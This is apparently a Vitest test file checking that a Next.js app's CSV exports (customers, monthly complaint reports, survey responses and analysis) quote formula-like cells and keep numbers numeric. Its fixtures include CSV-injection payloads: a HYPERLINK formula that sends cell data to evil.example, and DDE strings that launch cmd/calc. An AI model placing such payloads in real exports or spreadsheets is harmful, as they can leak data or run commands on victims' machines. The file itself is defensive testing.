import { parse } from 'csv-parse/sync';
import { NextRequest } from 'next/server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GET as customersExport } from '@/app/api/customers/export/route';
import { GET as reportExport } from '@/app/api/reports/complaints/route';
import { GET as analysisExport } from '@/app/api/surveys/analysis/export/route';
import { GET as responsesExport } from '@/app/api/surveys/responses/export/route';
import { prisma } from '@/server/db';
import { stopQueue } from '@/server/queue/boss';
import type { Viewer } from '@/server/viewer';
import { createCustomerRecord, createStaff } from '../helpers/factories';
import { gqlOk } from '../helpers/graphql';
import { sessionCookie } from '../helpers/session';
import { answersFor, createCampaign, createTemplate, ENTER, launchCampaign, TEMPLATE_INPUT } from '../helpers/surveys';

// Every CSV export, fed values a spreadsheet would run as formulas: each must come out as text (a leading '), and
// numbers — negative ones too — must stay numbers.
const queueSchema = `pgboss_test_csv${process.pid}`;
process.env.KEFU_QUEUE_SCHEMA = queueSchema;

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C calc'!A0";
const PLUS = '+86 21 5555 0000';

let manager: { userId: string; viewer: Viewer };

beforeAll(async () => {
  const m = await createStaff('SERVICE_MANAGER');
  manager = { userId: m.user.id, viewer: m.viewer };
});

afterAll(async () => {
  await stopQueue(5_000);
  await prisma.$executeRawUnsafe(`DROP SCHEMA IF EXISTS "${queueSchema}" CASCADE`);
});

/** A download route called as the manager's browser: the file's text. */
async function downloadText(handler: (req: NextRequest) => Promise<Response>, path: string): Promise<string> {
  const response = await handler(
    new NextRequest(`http://localhost${path}`, { headers: { cookie: await sessionCookie(manager.userId) } }),
  );
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  return Buffer.from(await response.arrayBuffer()).toString('utf8');
}

/** The file parsed into rows of cells, as a spreadsheet reads them. */
const download = async (handler: (req: NextRequest) => Promise<Response>, path: string): Promise<string[][]> =>
  parse(await downloadText(handler, path), { bom: true, relax_column_count: true });

const cellsOf = (rows: string[][]) => rows.flat();
const q = (value: unknown) => encodeURIComponent(JSON.stringify(value));

describe('CSV exports neutralise formula cells', () => {
  it('customers: formula-looking text is quoted, fees stay numbers, and the file imports back unchanged', async () => {
    const original = await createCustomerRecord({
      name: HYPERLINK,
      contactPerson: DDE,
      address: MINUS,
      phone: PLUS,
      certificationScope: '\t=1+1',
      province: '导出省',
      initialAuditFee: '0.00',
      surveillanceAuditFee: '2500.50',
    });
    const file = await downloadText(
      customersExport,
      `/api/customers/export?format=csv&filter=${q({ province: ['导出省'] })}`,
    );
    const rows: string[][] = parse(file, { bom: true });
    const header = rows[0]!;
    const row = Object.fromEntries(header.map((h, i) => [h, rows[1]![i]]));
    expect(row['公司名称']).toBe(`'${HYPERLINK}`);
    expect(row['联系人']).toBe(`'${DDE}`);
    expect(row['地址']).toBe(`'${MINUS}`);
    expect(row['电话']).toBe(`'${PLUS}`);
    expect(row['认证范围']).toBe("'\t=1+1");
    expect(row['初审费']).toBe('0.00');
    expect(row['监督审核费']).toBe('2500.50');
    expect(cellsOf(rows).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);

    // Imported again (the export's columns are the import's), the file gives back the originals, not the quoted text.
    await prisma.customer.delete({ where: { id: original.id } });
    const imported = await gqlOk<{ importCustomers: { ok: boolean; errors: unknown[] } }>(
      manager.viewer,
      `mutation($content: String!) { importCustomers(format: CSV, content: $content) { ok errors { row field message } } }`,
      { content: file },
    );
    expect(imported.importCustomers).toEqual({ ok: true, errors: [] });
    const back = await prisma.customer.findFirstOrThrow({ where: { province: '导出省' } });
    expect(back).toMatchObject({ name: HYPERLINK, contactPerson: DDE, address: MINUS, phone: PLUS });
    expect([back.initialAuditFee?.toFixed(2), back.surveillanceAuditFee?.toFixed(2)]).toEqual(['0.00', '2500.50']);
  });

  it('the monthly complaint report: department, product, customer and 8D texts are quoted; counts and changes stay numbers', async () => {
    const department = await prisma.department.create({ data: { code: 'EVIL', name: DDE } });
    const customer = await createCustomerRecord({ name: HYPERLINK });
    let n = 0;
    const complaint = (createdAt: string, data: Record<string, unknown> = {}) =>
      prisma.interaction.create({
        data: {
          number: `TS-2025-9${String(++n).padStart(5, '0')}`,
          type: 'COMPLAINT',
          channel: 'PHONE',
          subject: '主题',
          description: '说明',
          customerId: customer.id,
          responsibleDepartmentId: department.id,
          severity: 'GENERAL',
          causeClass: 'QUALITY',
          status: 'INVESTIGATING',
          productRef: MINUS,
          createdAt: new Date(createdAt),
          ...data,
        },
      });
    const first = await complaint('2025-11-05T02:00:00Z');
    await complaint('2025-11-06T02:00:00Z');
    await prisma.eightDReport.create({
      data: { interactionId: first.id, d4RootCauseOccurrence: PLUS, d4RootCauseOutflow: '=1+1' },
    });
    // The previous month had more: the change is negative.
    for (const day of ['03', '04', '05', '06']) await complaint(`2025-10-${day}T02:00:00Z`);

    const rows = await download(reportExport, '/api/reports/complaints?month=2025-11&format=csv');
    const cells = cellsOf(rows);
    for (const text of [DDE, MINUS, '=1+1', PLUS]) {
      expect(cells, text).toContain(`'${text}`);
      expect(cells, text).not.toContain(text);
    }
    const total = rows.find((r) => r[0] === '投诉总数')!;
    expect(total).toEqual(['投诉总数', '2', '4']);
    const departmentRow = rows.find((r) => r[0] === `'${DDE}`)!;
    expect(departmentRow.slice(1, 3)).toEqual(['2', '4']);
    expect(departmentRow[3]).toBe("'-2（-50%）"); // the change column is text with a figure in it: quoted as a whole
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
  });

  it('survey responses and analysis: names, answers, question texts and provinces are quoted; scores stay numbers', async () => {
    const template = await createTemplate(manager.viewer, {
      ...TEMPLATE_INPUT,
      name: '公式测试',
      dimensions: TEMPLATE_INPUT.dimensions.map((d, i) => (i === 0 ? { ...d, name: '=维度' } : d)),
      sections: TEMPLATE_INPUT.sections.map((s, i) =>
        i === 0 ? { ...s, questions: s.questions.map((qq, j) => (j === 0 ? { ...qq, text: '@问题 A1' } : qq)) } : s,
      ),
    });
    const a = (await createCustomerRecord({ name: HYPERLINK, province: DDE })).id;
    const campaign = await launchCampaign(
      manager.viewer,
      await createCampaign(manager.viewer, template.id, { name: '+活动', audience: { customerIds: [a] } }),
    );
    await gqlOk(manager.viewer, ENTER, {
      input: {
        campaignId: campaign.id,
        customerId: a,
        source: 'PHONE',
        answers: answersFor(template, { r5a: 1, r5b: 2, r10: 3, price: 'B', nps: 0, text: MINUS }),
      },
    });

    const responses = cellsOf(
      await download(
        responsesExport,
        `/api/surveys/responses/export?format=csv&filter=${q({ campaignId: campaign.id })}`,
      ),
    );
    expect(responses).toContain(`'${HYPERLINK}`); // the customer
    expect(responses).toContain(`'${DDE}`); // its province
    expect(responses).toContain(`'${MINUS}`); // the text answer
    expect(responses).toContain("'+活动"); // the campaign
    expect(responses).toContain('Q1 @问题 A1'); // a question header does not begin with the character: left alone
    expect(responses).toContain('1'); // the 1–5 answer, a number

    const analysis = await download(
      analysisExport,
      `/api/surveys/analysis/export?format=csv&filter=${q({ campaignIds: [campaign.id] })}`,
    );
    const cells = cellsOf(analysis);
    expect(cells).toContain("'=维度");
    expect(cells).toContain("'@问题 A1");
    expect(cells).toContain(`'${DDE}`);
    const nps = analysis.find((r) => r[0] === 'NPS')!;
    expect(nps[1]).toBe('-100'); // a negative NPS is a figure
    for (const list of [responses, cells])
      expect(list.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
  });
});
